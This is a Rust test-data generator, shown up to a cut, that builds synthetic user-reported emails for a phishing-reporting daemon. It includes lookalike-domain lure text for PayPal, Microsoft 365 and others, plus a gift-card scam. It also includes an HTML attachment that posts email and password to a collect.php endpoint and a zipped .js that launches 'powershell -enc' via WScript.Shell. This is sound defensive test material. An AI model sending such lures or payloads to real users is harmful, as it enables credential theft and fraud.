//! User-reported messages for the reporting mailbox, generated deterministically from a seed.
//!
//! A report is a message built the way Microsoft documents for the reporting mailbox (API.md
//! §7a): a wrapper whose subject carries the verdict (`1|`/`Junk:`, `2|`/`Not junk:`,
//! `3|`/`Phishing:`, none, or the legacy `3|<network message id>|<ip>|<from>|(<subject>)`),
//! sent by the reporter (sometimes on behalf of them), with the reported original attached as an
//! item attachment, an `.eml` or an Outlook `.msg` file, forwarded inline, two originals at once
//! (which Microsoft discards), or a third-party button's wrapper with a note attached.
//!
//! Originals are real MIME text in Exchange Online's style: a Received chain, Authentication-
//! Results (often failing DMARC), the X-Forefront / X-Microsoft-Antispam / X-MS-Exchange headers,
//! lookalike sender domains, Safe Links-wrapped URLs whose link text differs from the target,
//! HTML-only or multipart/alternative bodies, foreign charsets (windows-1252 and iso-8859-2
//! quoted-printable, shift_jis and gb2312 base64, RFC 2047 subjects), attachments (a PDF-ish
//! file, an .html form, a .zip) and sometimes a nested message/rfc822.
//!
//! Only small metadata is kept per generated report; the bytes are rebuilt from the seed when a
//! client asks for them (see `mailbox.rs`). [`ReportFacts`] tells a test what the daemon should
//! find.

use std::time::SystemTime;

use fastrand::Rng;
use sha2::{Digest as _, Sha256};

use crate::generator::{guid, hex, pick, pick_str};
use crate::mime::{self, Part};
use crate::time::{self, TICKS_PER_SEC};

/// How a report carries what was reported.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum WrapperFormat {
    /// The original as an item attachment (a `message/rfc822` part; `$value` gives its MIME).
    ItemAttachment,
    /// The original as an `.eml` file attachment (`message/rfc822`).
    EmlAttachment,
    /// The original as an Outlook `.msg` file attachment (`application/vnd.ms-outlook`).
    MsgAttachment,
    /// No attachment: the user forwarded the original; the report's own body is the evidence.
    Inline,
    /// Two attached originals: Microsoft discards such reports.
    MultipleAttached,
    /// A third-party button (KnowBe4 / Cofense style): `.eml` attached plus a `text/plain` note.
    ThirdParty,
    /// A report a test built itself ([`Report`]).
    Custom,
}

impl WrapperFormat {
    pub fn as_str(self) -> &'static str {
        match self {
            WrapperFormat::ItemAttachment => "item_attachment",
            WrapperFormat::EmlAttachment => "eml_attachment",
            WrapperFormat::MsgAttachment => "msg_attachment",
            WrapperFormat::Inline => "inline",
            WrapperFormat::MultipleAttached => "multiple_attached",
            WrapperFormat::ThirdParty => "third_party",
            WrapperFormat::Custom => "custom",
        }
    }
}

/// Relative weights of the wrapper formats in a generated batch.
#[derive(Clone, Copy, Debug)]
pub struct FormatMix {
    pub item: u32,
    pub eml: u32,
    pub msg: u32,
    pub inline: u32,
    pub third_party: u32,
    pub multiple: u32,
}

impl Default for FormatMix {
    /// Mostly item and `.eml` attachments, some `.msg`, third-party and inline forwards, and
    /// a few two-message reports.
    fn default() -> Self {
        FormatMix {
            item: 35,
            eml: 25,
            msg: 15,
            inline: 8,
            third_party: 12,
            multiple: 5,
        }
    }
}

impl FormatMix {
    /// Only one format.
    pub fn only(f: WrapperFormat) -> FormatMix {
        let mut m = FormatMix {
            item: 0,
            eml: 0,
            msg: 0,
            inline: 0,
            third_party: 0,
            multiple: 0,
        };
        match f {
            WrapperFormat::EmlAttachment => m.eml = 1,
            WrapperFormat::MsgAttachment => m.msg = 1,
            WrapperFormat::Inline => m.inline = 1,
            WrapperFormat::MultipleAttached => m.multiple = 1,
            WrapperFormat::ThirdParty => m.third_party = 1,
            WrapperFormat::ItemAttachment | WrapperFormat::Custom => m.item = 1,
        }
        m
    }

    pub(crate) fn draw(&self, rng: &mut Rng) -> WrapperFormat {
        let table = [
            (WrapperFormat::ItemAttachment, self.item),
            (WrapperFormat::EmlAttachment, self.eml),
            (WrapperFormat::MsgAttachment, self.msg),
            (WrapperFormat::Inline, self.inline),
            (WrapperFormat::ThirdParty, self.third_party),
            (WrapperFormat::MultipleAttached, self.multiple),
        ];
        let total: u32 = table.iter().map(|(_, w)| w).sum();
        let mut x = rng.u32(0..total.max(1));
        for (f, w) in table {
            if x < w {
                return f;
            }
            x -= w;
        }
        WrapperFormat::ItemAttachment
    }
}

/// A batch of generated reports.
#[derive(Clone, Debug)]
pub struct ReportSpec {
    pub count: usize,
    /// Received times are spread evenly (with jitter) over `[from, until)`.
    pub from: SystemTime,
    pub until: SystemTime,
    pub seed: u64,
    pub mix: FormatMix,
    /// The folder they land in (`inbox` unless set): a well-known name or a folder id.
    pub folder: String,
}

impl ReportSpec {
    pub fn new(count: usize, from: SystemTime, until: SystemTime, seed: u64) -> ReportSpec {
        ReportSpec {
            count,
            from,
            until,
            seed,
            mix: FormatMix::default(),
            folder: "inbox".to_string(),
        }
    }
}

/// One attachment of a report a test builds itself.
#[derive(Clone, Debug)]
pub enum ReportAttachment {
    /// An attached message (Graph `itemAttachment`; `$value` serves `mime`). `content_type`
    /// is Graph's `contentType` (Microsoft sends null or `message/rfc822`).
    Item {
        name: String,
        mime: Vec<u8>,
        content_type: Option<String>,
    },
    /// A file (Graph `fileAttachment`), e.g. an `.eml` (`message/rfc822`) or an `.msg`
    /// (`application/vnd.ms-outlook`).
    File {
        name: String,
        content_type: String,
        bytes: Vec<u8>,
    },
    /// A link to a file in the cloud (Graph `referenceAttachment`); `$value` answers 405.
    Reference { name: String, source_url: String },
}

/// A report with an explicit shape and exact bytes, for crafted cases.
#[derive(Clone, Debug)]
pub struct Report {
    /// The reporter's address (`From`).
    pub reporter: String,
    /// The wrapper subject, verbatim.
    pub subject: String,
    pub received: SystemTime,
    /// The wrapper's HTML body (for an inline forward: the forwarded original).
    pub body_html: String,
    pub attachments: Vec<ReportAttachment>,
    /// `inbox` unless set.
    pub folder: String,
    /// Recorded in the facts; [`WrapperFormat::Custom`] if nothing better fits.
    pub format: WrapperFormat,
}

impl Report {
    /// A report of `original` (raw MIME) as an item attachment.
    pub fn item(reporter: &str, subject: &str, received: SystemTime, original: Vec<u8>) -> Report {
        Report {
            reporter: reporter.to_string(),
            subject: subject.to_string(),
            received,
            body_html: "<html><body><p>Reported message attached.</p></body></html>".into(),
            attachments: vec![ReportAttachment::Item {
                name: "Reported message".into(),
                mime: original,
                content_type: Some("message/rfc822".into()),
            }],
            folder: "inbox".into(),
            format: WrapperFormat::ItemAttachment,
        }
    }

    /// A report of `original` (raw MIME) as an `.eml` file attachment.
    pub fn eml(reporter: &str, subject: &str, received: SystemTime, original: Vec<u8>) -> Report {
        let mut r = Report::item(reporter, subject, received, Vec::new());
        r.attachments = vec![ReportAttachment::File {
            name: "reported.eml".into(),
            content_type: "message/rfc822".into(),
            bytes: original,
        }];
        r.format = WrapperFormat::EmlAttachment;
        r
    }
}

/// One attachment of a reported original.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AttachmentFacts {
    pub name: String,
    /// Lowercase hex SHA-256 of the decoded bytes.
    pub sha256: String,
}

/// What a reported original holds. Fields the daemon cannot know from the report (an inline
/// forward loses the original's headers) are `None`.
#[derive(Clone, Debug)]
pub struct OriginalFacts {
    /// `Message-ID`, angle brackets included.
    pub message_id: Option<String>,
    /// `X-MS-Exchange-Organization-Network-Message-Id`.
    pub network_message_id: Option<String>,
    /// The `From` address.
    pub from: String,
    /// The subject, decoded (RFC 2047 and charset).
    pub subject: String,
    /// Whether `Authentication-Results` says `dmarc=fail`.
    pub dmarc_fails: Option<bool>,
    /// The links' real targets (Safe Links unwrapped), in body order, without duplicates.
    pub urls: Vec<String>,
    pub attachments: Vec<AttachmentFacts>,
    /// The connecting IP that Exchange Online saw (`CIP` in X-Forefront-Antispam-Report).
    pub originating_ip: Option<String>,
    /// The charset of the body text.
    pub charset: String,
}

/// What a test needs to check the daemon's output for one report.
#[derive(Clone, Debug)]
pub struct ReportFacts {
    /// The report's immutable id (`Prefer: IdType="ImmutableId"`).
    pub immutable_id: String,
    /// The report's own `internetMessageId`.
    pub internet_message_id: String,
    /// The report's Graph attachment ids, in order.
    pub attachment_ids: Vec<String>,
    pub received: SystemTime,
    pub reporter: String,
    /// The wrapper subject, as sent.
    pub subject: String,
    pub format: WrapperFormat,
    /// `phishing`, `junk` or `not_junk` from the subject prefix (Microsoft: anything without
    /// a recognised prefix counts as phishing); `unknown` for a report with two attached
    /// messages, which Microsoft discards.
    pub verdict: &'static str,
    /// The reported original(s): one, or two for [`WrapperFormat::MultipleAttached`].
    pub originals: Vec<OriginalFacts>,
}

/// A report's attachment as the mailbox serves it.
#[derive(Clone, Debug)]
pub(crate) enum AttKind {
    File {
        content_type: String,
        bytes: Vec<u8>,
    },
    Item {
        content_type: Option<String>,
        mime: Vec<u8>,
    },
    Reference {
        /// Where the file lives (only beta Graph shows it; v1.0 does not).
        #[allow(dead_code)]
        source_url: String,
    },
}

#[derive(Clone, Debug)]
pub(crate) struct AttData {
    pub name: String,
    pub kind: AttKind,
}

/// The Graph-visible fields of a report (kept per message; small).
#[derive(Clone, Debug)]
pub(crate) struct Summary {
    pub subject: String,
    pub from: (String, String),
    pub sender: (String, String),
    pub to: (String, String),
    pub internet_message_id: String,
    pub body_html: String,
    pub sent: i64,
    pub has_attachments: bool,
}

/// A report, fully built.
pub(crate) struct Built {
    pub mime: Vec<u8>,
    pub attachments: Vec<AttData>,
    pub summary: Summary,
    pub verdict: &'static str,
    pub originals: Vec<OriginalFacts>,
}

/// What a generated report depends on besides its seed.
#[derive(Clone, Debug)]
pub(crate) struct GenInput {
    pub tenant_id: String,
    pub mailbox: String,
    pub received: i64,
    pub format: WrapperFormat,
}

// ---------------------------------------------------------------------------------------------

const REPORTERS: &[(&str, &str)] = &[
    ("Adele Vance", "adelev"),
    ("Alex Wilber", "alexw"),
    ("Megan Bowen", "meganb"),
    ("Lynne Robbins", "lynner"),
    ("Nestor Wilke", "nestorw"),
    ("Isaiah Langer", "isaiahl"),
    ("Grady Archie", "gradya"),
    ("Pradeep Gupta", "pradeepg"),
    ("Joni Sherman", "jonis"),
    ("Diego Siciliani", "diegos"),
];

const COUNTRIES: &[(&str, &str)] = &[
    ("RU", "185.234.219."),
    ("NG", "102.89.34."),
    ("CN", "218.92.0."),
    ("US", "45.61.136."),
    ("NL", "89.248.165."),
    ("BR", "177.54.150."),
    ("VN", "103.167.92."),
    ("RO", "91.215.85."),
];

/// How an original's sender relates to the brand it imitates.
struct Lure {
    subject: String,
    from_name: String,
    from_addr: String,
    /// The domain in `header.from` when spoofed (DMARC fails), else the sender's own.
    reply_to: Option<String>,
    /// (link text, real target)
    links: Vec<(String, String)>,
    paragraphs: Vec<String>,
    charset: &'static str,
    /// Encode the subject as RFC 2047 even if ASCII would do.
    encode_subject: bool,
    dmarc_fail: bool,
    category: &'static str,
}

fn pct(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3 / 2);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A Safe Links URL for `target` as Defender rewrites it for `recipient`.
fn safelink(rng: &mut Rng, target: &str, recipient: &str, tenant: &str, at: i64) -> String {
    let region = pick_str(rng, &["nam02", "nam10", "nam12", "eur01", "eur03", "apc01"]);
    let dotnet = at.saturating_add(time::DOTNET_EPOCH_OFFSET);
    let data = format!(
        "05|02|{recipient}|{}|{tenant}|0|0|{dotnet}|Unknown|TWFpbGZsb3d8eyJFbXB0eU1hcGkiOnRydWUsIlYiOiIwLjAuMDAwMCIsIlAiOiJXaW4zMiIsIkFOIjoiTWFpbCIsIldUIjoyfQ==|0|||",
        hex(rng, 32)
    );
    let sdata = format!("{}%3D", hex(rng, 40));
    format!(
        "https://{region}.safelinks.protection.outlook.com/?url={}&data={}&sdata={sdata}&reserved=0",
        pct(target),
        pct(&data)
    )
}

fn lure(rng: &mut Rng, verdict: &str, recipient: &str, domain: &str) -> Lure {
    let n = rng.u32(10_000..99_999);
    let h = hex(rng, 12);
    let mk = |subject: String,
              from_name: &str,
              from_addr: String,
              links: Vec<(String, String)>,
              paragraphs: Vec<String>,
              dmarc_fail: bool| Lure {
        subject,
        from_name: from_name.to_string(),
        from_addr,
        reply_to: None,
        links,
        paragraphs,
        charset: "utf-8",
        encode_subject: false,
        dmarc_fail,
        category: "PHISH",
    };
    let mut l = match verdict {
        "junk" => {
            let mut l = match rng.u8(0..3) {
                0 => mk(
                    "Exclusive: 80% off Ray-Ban sunglasses today only".into(),
                    "Ray-Ban Outlet",
                    format!("deals@rayban-outlet-{}.shop", rng.u8(1..9)),
                    vec![
                        (
                            "SHOP NOW".into(),
                            format!("https://rayban-outlet-store.shop/c/{h}"),
                        ),
                        (
                            "Unsubscribe".into(),
                            format!("https://mailer-unsub.click/u/{h}"),
                        ),
                    ],
                    vec![
                        "Summer clearance! Authentic sunglasses from $19.99.".into(),
                        "Free shipping on all orders.".into(),
                    ],
                    false,
                ),
                1 => mk(
                    format!("Re: Your invoice #{n} – SEO services for {domain}"),
                    "Rank Boost Agency",
                    "growth@rankboost-media.biz".into(),
                    vec![(
                        "See our packages".into(),
                        "https://rankboost-media.biz/packages".into(),
                    )],
                    vec![
                        format!("Hi, I noticed {domain} is not on the first page of Google."),
                        "We can fix that within 30 days, guaranteed.".into(),
                    ],
                    false,
                ),
                _ => mk(
                    "You have been selected for a $500 Costco reward".into(),
                    "Costco Rewards",
                    "rewards@cstco-members.info".into(),
                    vec![(
                        "Claim reward".into(),
                        format!("https://cstco-members.info/claim?id={n}"),
                    )],
                    vec!["Congratulations! Complete a short survey to claim your reward.".into()],
                    false,
                ),
            };
            l.category = "SPM";
            l
        }
        "not_junk" => {
            let mut l = mk(
                format!(
                    "Fabrikam newsletter – {} edition",
                    pick_str(rng, &["March", "June", "September", "December"])
                ),
                "Fabrikam Partner News",
                "news@fabrikam.com".into(),
                vec![
                    (
                        "Read the full story".into(),
                        "https://www.fabrikam.com/news/partner-summit".into(),
                    ),
                    (
                        "Manage preferences".into(),
                        format!("https://www.fabrikam.com/preferences?u={h}"),
                    ),
                ],
                vec![
                    "Welcome to this quarter's partner update.".into(),
                    "Registration for the partner summit is now open.".into(),
                ],
                false,
            );
            l.category = "NONE";
            l
        }
        _ => {
            match rng.u8(0..10) {
                0 => {
                    let spoof = rng.bool();
                    let addr = if spoof {
                        "service@paypal.com".to_string()
                    } else {
                        "service@paypa1.com".to_string()
                    };
                    let mut l = mk(
                    "Your account has been limited until we hear from you".into(),
                    "PayPal",
                    addr,
                    vec![("https://www.paypal.com/signin".into(), format!("https://paypa1-resolution.com/signin?case=PP-{n}-{h}"))],
                    vec!["We noticed some unusual activity on your PayPal account.".into(), "To restore full access, please confirm your information within 24 hours.".into()],
                    spoof,
                );
                    l.reply_to = Some(format!(
                        "resolution-center@paypal-support-{}.net",
                        rng.u8(1..99)
                    ));
                    l
                }
                1 => {
                    let mut l = mk(
                        "⚠ Your password expires today".into(),
                        "Microsoft 365 Admin",
                        "no-reply@micros0ft-support.com".into(),
                        vec![(
                            "Keep current password".into(),
                            format!(
                                "https://micros0ft-support.com/owa/auth/logon.php?user={}",
                                pct(recipient)
                            ),
                        )],
                        vec![
                            format!("The password for {recipient} expires today."),
                            "Use the button below to keep your current password.".into(),
                        ],
                        false,
                    );
                    l.encode_subject = true;
                    l
                }
                2 => mk(
                    format!("Please DocuSign: Invoice_{n}.pdf"),
                    "DocuSign via Accounts",
                    format!("dse@docusign-secure{}.net", rng.u8(1..9)),
                    vec![(
                        "REVIEW DOCUMENT".into(),
                        format!("https://docusign-secure.net/review/{h}"),
                    )],
                    vec!["Accounts Payable sent you a document to review and sign.".into()],
                    false,
                ),
                3 => mk(
                    "Your parcel could not be delivered".into(),
                    "DHL Express",
                    "noreply@dhl-parcel-track.com".into(),
                    vec![(
                        "Track your shipment".into(),
                        format!(
                            "https://dhl-parcel-track.com/redelivery?awb={n}{}",
                            rng.u32(1000..9999)
                        ),
                    )],
                    vec![
                        "We attempted to deliver your parcel but no one was available.".into(),
                        "Please pay the redelivery fee of 1.99 EUR.".into(),
                    ],
                    false,
                ),
                4 => {
                    let mut l = mk(
                    "Quick favour".into(),
                    "Satya (CEO)",
                    format!("ceo.office.{}@gmail-secure.com", rng.u8(1..99)),
                    Vec::new(),
                    vec!["Are you at your desk? I need you to buy some gift cards for a client, I will reimburse you today.".into(), "Reply with your mobile number.".into()],
                    false,
                );
                    l.reply_to = Some(format!("exec.assist{}@protonmail.com", rng.u8(1..99)));
                    l.category = "BULK";
                    l
                }
                5 => mk(
                    format!(
                        "{} shared \"Q3 Bonus Plan.xlsx\" with you",
                        pick(rng, REPORTERS).0
                    ),
                    "SharePoint Online",
                    format!("no-reply@sharepoint-docs{}.online", rng.u8(1..9)),
                    vec![
                        (
                            "Open".into(),
                            format!("https://sharepoint-docs.online/:x:/g/personal/{h}/EaBc{n}"),
                        ),
                        (
                            "Privacy Statement".into(),
                            "https://privacy.microsoft.com/en-us/privacystatement".into(),
                        ),
                    ],
                    vec!["Here's the document that was shared with you.".into()],
                    rng.bool(),
                ),
                6 => {
                    let mut l = mk(
                    "Votre compte a été suspendu – action requise".into(),
                    "Service Client",
                    "support@amaz0n-billing.com".into(),
                    vec![("Vérifier mon compte".into(), format!("https://amaz0n-billing.com/fr/verify?ref={h}"))],
                    vec!["Bonjour, nous avons détecté une activité inhabituelle sur votre compte.".into(), "Cliquez ici pour vérifier votre identité sous 48 heures, sinon votre compte sera fermé.".into()],
                    true,
                );
                    l.charset = "windows-1252";
                    l
                }
                7 => {
                    let mut l = mk(
                        "Pilne: Twoje konto zostało zablokowane".into(),
                        "Administrator poczty",
                        format!("admin@poczta-weryfikacja{}.pl", rng.u8(1..9)),
                        vec![(
                            "Zaloguj się".into(),
                            format!("https://poczta-weryfikacja.pl/login?id={h}"),
                        )],
                        vec![
                            "Dzień dobry, Twoja skrzynka pocztowa przekroczyła limit.".into(),
                            "Zaloguj się, aby odblokować konto. Żółć i źdźbło – ważne!".into(),
                        ],
                        false,
                    );
                    l.charset = "iso-8859-2";
                    l
                }
                8 => {
                    let mut l = mk(
                        "【重要】アカウントの確認が必要です".into(),
                        "アカウントサポート",
                        "support@rakuten-secure-jp.com".into(),
                        vec![(
                            "アカウントを確認する".into(),
                            format!("https://rakuten-secure-jp.com/verify/{h}"),
                        )],
                        vec![
                            "お客様のアカウントで異常なサインインが検出されました。".into(),
                            "以下のリンクから確認してください。".into(),
                        ],
                        true,
                    );
                    l.charset = "shift_jis";
                    l
                }
                _ => {
                    let mut l = mk(
                        "您的邮箱即将过期，请立即验证".into(),
                        "系统管理员",
                        format!("admin@mail-verify{}.cn", rng.u8(1..9)),
                        vec![(
                            "立即验证".into(),
                            format!("https://mail-verify.cn/auth?u={h}"),
                        )],
                        vec![
                            "尊敬的用户：您的邮箱账户将于今天过期。".into(),
                            "请点击下面的链接进行验证。".into(),
                        ],
                        false,
                    );
                    l.charset = "gb2312";
                    l
                }
            }
        }
    };
    if rng.u8(0..4) == 0 && l.reply_to.is_none() && verdict == "phishing" {
        l.reply_to = Some(format!("billing-dept{}@outlook-mail.co", rng.u8(1..99)));
    }
    l
}

/// A reported original, built.
pub(crate) struct Original {
    pub mime: Vec<u8>,
    pub header_block: String,
    pub subject: String,
    pub from_name: String,
    pub from_addr: String,
    pub to_name: String,
    pub to_addr: String,
    pub message_id: String,
    pub date: i64,
    pub html: String,
    pub text: String,
    /// (name, content type, decoded bytes)
    pub attachments: Vec<(String, String, Vec<u8>)>,
    pub facts: OriginalFacts,
}

fn exo_host(rng: &mut Rng, kind: &str) -> String {
    let region = pick_str(rng, &["NAM", "EUR", "APC"]);
    let pr = pick_str(rng, &["PR", "PR0", "PR1"]);
    format!(
        "{}{}{}{}{}.{}prd{:02}.prod.outlook.com",
        pick_str(rng, &["DM6", "SN6", "BN9", "CH3", "MW4", "AM6", "DB8"]),
        pr,
        rng.u8(1..20),
        kind,
        rng.u16(1000..9999),
        region.to_ascii_lowercase(),
        rng.u8(1..23)
    )
}

fn ipv6(rng: &mut Rng) -> String {
    format!(
        "2603:10b6:{:x}:{:x}::{:x}",
        rng.u16(1..0xfff),
        rng.u16(1..0xfff),
        rng.u8(1..0xff)
    )
}

fn sample_pdf(title: &str) -> Vec<u8> {
    let stream = format!("BT /F1 18 Tf 72 720 Td ({title}) Tj ET");
    format!(
        "%PDF-1.4\n%\u{e2}\u{e3}\u{cf}\u{d3}\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length {} >>\nstream\n{stream}\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
        stream.len()
    )
    .into_bytes()
}

/// Builds a reported original delivered to `recipient` at `at`.
pub(crate) fn original(
    rng: &mut Rng,
    tenant: &str,
    recipient: (&str, &str),
    verdict: &str,
    at: i64,
) -> Original {
    let domain = recipient.1.split('@').nth(1).unwrap_or("contoso.com");
    let mut l = lure(rng, verdict, recipient.1, domain);
    let sender_domain = l
        .from_addr
        .split('@')
        .nth(1)
        .unwrap_or("example.net")
        .to_string();
    let (ctry, prefix) = *pick(rng, COUNTRIES);
    let ip = format!("{prefix}{}", rng.u8(2..250));
    let helo = format!("mail{}.{sender_domain}", rng.u8(1..9));
    let nmid = guid(rng);
    let message_id = if rng.bool() {
        format!("<{}.{}@{helo}>", hex(rng, 16), rng.u32(..))
    } else {
        format!("<CA+{}@mail.gmail.com>", hex(rng, 28))
    };
    let sent = at - rng.i64(5 * TICKS_PER_SEC..600 * TICKS_PER_SEC);
    let envelope_domain = if l.dmarc_fail {
        format!(
            "bounce.{}",
            pick_str(
                rng,
                &["mailer-relay.net", "smtp-out.biz", "sendgrid-mta.info"]
            )
        )
    } else {
        sender_domain.clone()
    };

    // Links, wrapped by Safe Links; the text says something else than the real target.
    let mut urls: Vec<String> = Vec::new();
    let mut html_links = Vec::new();
    let mut text_links = Vec::new();
    for (text, target) in &l.links {
        if !urls.contains(target) {
            urls.push(target.clone());
        }
        let wrapped = safelink(rng, target, recipient.1, tenant, at);
        html_links.push(format!(
            "<p><a href=\"{}\" originalsrc=\"{}\" shash=\"{}\">{}</a></p>",
            html_escape(&wrapped),
            html_escape(target),
            hex(rng, 20),
            html_escape(text)
        ));
        text_links.push(format!("{text} <{wrapped}>"));
    }
    let greeting = format!(
        "Dear {},",
        recipient.0.split(' ').next().unwrap_or("customer")
    );
    let mut html = format!(
        "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset={}\"></head><body>",
        l.charset
    );
    if l.charset == "utf-8" {
        html.push_str(&format!("<p>{}</p>", html_escape(&greeting)));
    }
    for p in &l.paragraphs {
        html.push_str(&format!("<p>{}</p>", html_escape(p)));
    }
    for a in &html_links {
        html.push_str(a);
    }
    html.push_str(&format!(
        "<p style=\"font-size:9px;color:#999\">Ref: {}</p></body></html>",
        hex(rng, 10)
    ));
    let mut text = String::new();
    if l.charset == "utf-8" {
        text.push_str(&greeting);
        text.push_str("\n\n");
    }
    for p in &l.paragraphs {
        text.push_str(p);
        text.push_str("\n\n");
    }
    for t in &text_links {
        text.push_str(t);
        text.push('\n');
    }

    // Body structure.
    let charset = l.charset;
    let foreign_b64 = matches!(charset, "shift_jis" | "gb2312");
    let leaf = |ct: &str, body: &str| -> Part {
        let bytes = mime::encode_text(charset, &mime::crlf(body));
        if foreign_b64 {
            Part::leaf(
                &format!("{ct}; charset=\"{charset}\""),
                Some("base64"),
                mime::b64_lines(&bytes),
            )
        } else {
            Part::leaf(
                &format!("{ct}; charset=\"{charset}\""),
                Some("quoted-printable"),
                mime::qp(&bytes),
            )
        }
    };
    let mut attachments: Vec<(String, String, Vec<u8>)> = Vec::new();
    let style = rng.u8(0..10);
    let alt = || {
        Part::multi(
            "alternative",
            &format!("_000_{}_", hex(&mut Rng::with_seed(at as u64), 24)),
            vec![leaf("text/plain", &text), leaf("text/html", &html)],
        )
    };
    let mut nested: Option<(String, Vec<u8>)> = None;
    let body = match style {
        0..=2 => leaf("text/html", &html),
        3..=5 => alt(),
        _ => {
            let n = rng.u32(10_000..99_999);
            match rng.u8(0..4) {
                0 => attachments.push((format!("Invoice_{n}.pdf"), "application/pdf".into(), sample_pdf(&format!("Invoice {n}")))),
                1 => attachments.push((
                    format!("Secure_Document_{n}.html"),
                    "text/html".into(),
                    format!("<html><body><form action=\"https://{sender_domain}/collect.php\" method=\"post\"><input name=\"email\" value=\"{}\"><input type=\"password\" name=\"pw\"><button>View document</button></form></body></html>\r\n", recipient.1).into_bytes(),
                )),
                2 => attachments.push((
                    format!("Invoice_{n}.zip"),
                    "application/zip".into(),
                    mime::stored_zip(&[(&format!("Invoice_{n}.pdf.js"), b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -enc SQBFAFgA');\r\n")]),
                )),
                _ => {
                    // A forwarded message inside the original.
                    let inner = format!(
                        "From: Billing <billing@{sender_domain}>\r\nTo: {}\r\nSubject: Payment details updated\r\nDate: {}\r\nMessage-ID: <{}@{sender_domain}>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=\"us-ascii\"\r\n\r\nPlease use our new bank account for all future payments.\r\nIBAN: GB{} NWBK {}\r\n",
                        recipient.1,
                        time::rfc5322(sent - 86_400 * TICKS_PER_SEC),
                        hex(rng, 20),
                        rng.u8(10..99),
                        rng.u64(10_000_000..99_999_999)
                    );
                    nested = Some(("Payment details updated.eml".into(), inner.into_bytes()));
                }
            }
            let mut parts = vec![alt()];
            for (name, ct, bytes) in &attachments {
                parts.push(
                    Part::leaf(
                        &format!("{ct}; name=\"{name}\""),
                        Some("base64"),
                        mime::b64_lines(bytes),
                    )
                    .with(
                        "Content-Disposition",
                        &format!("attachment; filename=\"{name}\"; size={}", bytes.len()),
                    ),
                );
            }
            if let Some((name, inner)) = &nested {
                parts.push(Part::leaf("message/rfc822", None, inner.clone()).with(
                    "Content-Disposition",
                    &format!("attachment; filename=\"{name}\""),
                ));
            }
            Part::multi("mixed", &format!("_004_{}_", hex(rng, 24)), parts)
        }
    };
    if let Some((name, inner)) = nested {
        attachments.push((name, "message/rfc822".into(), inner));
    }

    // Headers, top hop first.
    let t = |d: i64| time::rfc5322(at - d * TICKS_PER_SEC);
    let mbx = exo_host(rng, "MB");
    let mbx2 = exo_host(rng, "MB");
    let fe = format!(
        "{}.outlook.office365.com",
        exo_host(rng, "CA")
            .split('.')
            .next()
            .unwrap_or("BN9PR03CA0123")
    );
    let eop = format!(
        "{}.mail.protection.outlook.com",
        exo_host(rng, "EPF")
            .split('.')
            .next()
            .unwrap_or("BN2PEPF000044A8")
    );
    let build = "15.20.7633.22";
    let tls = "(version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)";
    let mut hops = vec![
        format!("from {mbx} ({}) by {mbx2} with HTTPS; {}", ipv6(rng), t(0)),
        format!("from {fe} ({}) by {mbx} ({}) with Microsoft SMTP Server {tls} id {build}; {}", ipv6(rng), ipv6(rng), t(1)),
        format!("from {eop} ({}) by {fe} ({}) with Microsoft SMTP Server {tls} id {build} via Frontend Transport; {}", ipv6(rng), ipv6(rng), t(1)),
        format!("from {helo} ({ip}) by {eop} (10.167.{}.{}) with Microsoft SMTP Server {tls} id 15.20.7633.15 via Frontend Transport; {}", rng.u8(1..250), rng.u8(1..250), t(2)),
    ];
    if rng.bool() {
        hops.push(format!("from [192.168.{}.{}] (unknown [{}.{}.{}.{}]) by {helo} (Postfix) with ESMTPSA id {}; {}", rng.u8(0..20), rng.u8(2..250), rng.u8(23..200), rng.u8(0..255), rng.u8(0..255), rng.u8(1..255), hex(rng, 11).to_ascii_uppercase(), t(3)));
    }
    let header_from_domain = sender_domain.clone();
    let (spf, dkim, dmarc, compauth) = if l.dmarc_fail {
        (
            format!("spf=pass (sender IP is {ip}) smtp.mailfrom={envelope_domain}"),
            "dkim=none (message not signed) header.d=none".to_string(),
            format!("dmarc=fail action=quarantine header.from={header_from_domain}"),
            "compauth=fail reason=000".to_string(),
        )
    } else if verdict == "phishing" {
        (
            format!("spf=pass (sender IP is {ip}) smtp.mailfrom={envelope_domain}"),
            format!("dkim=pass (signature was verified) header.d={sender_domain}"),
            format!("dmarc=pass action=none header.from={header_from_domain}"),
            "compauth=pass reason=100".to_string(),
        )
    } else {
        (
            format!("spf=pass (sender IP is {ip}) smtp.mailfrom={envelope_domain}"),
            format!("dkim=pass (signature was verified) header.d={sender_domain}"),
            format!(
                "dmarc=pass action=none header.from={header_from_domain};compauth=pass reason=100"
            ),
            String::new(),
        )
    };
    let auth = [spf, dkim, dmarc, compauth]
        .iter()
        .filter(|s| !s.is_empty())
        .cloned()
        .collect::<Vec<_>>()
        .join(";\r\n ");
    let subject_header = if l.charset != "utf-8" {
        let b = matches!(l.charset, "shift_jis" | "gb2312");
        mime::encoded_words(l.charset, &l.subject, b)
    } else if l.encode_subject || !l.subject.is_ascii() {
        mime::encoded_words("utf-8", &l.subject, true)
    } else {
        mime::fold(&l.subject)
    };
    let scl = if verdict == "not_junk" {
        1
    } else {
        rng.u8(1..9)
    };
    let sfv = if verdict == "not_junk" {
        "NSPM"
    } else {
        pick_str(rng, &["NSPM", "SPM", "SKN"])
    };
    let from_header = if l.from_name.is_ascii() {
        format!("\"{}\" <{}>", l.from_name, l.from_addr)
    } else {
        format!(
            "{} <{}>",
            mime::encoded_words("utf-8", &l.from_name, true),
            l.from_addr
        )
    };
    let mut envelope: Vec<(String, String)> = hops
        .into_iter()
